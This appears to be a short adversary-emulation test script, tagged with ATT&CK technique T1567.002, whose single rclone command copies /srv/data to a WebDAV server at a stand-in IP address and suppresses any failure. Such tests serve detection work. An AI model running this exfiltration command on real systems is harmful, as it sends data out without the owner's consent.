# title: rclone copies data to a cloud
# technique: T1567.002 T1567
# needs: rclone

timeout 3 rclone --contimeout 1s --retries 1 --low-level-retries 1 --webdav-url=http://192.88.99.7/dav --webdav-vendor=other copy /srv/data :webdav:out; true
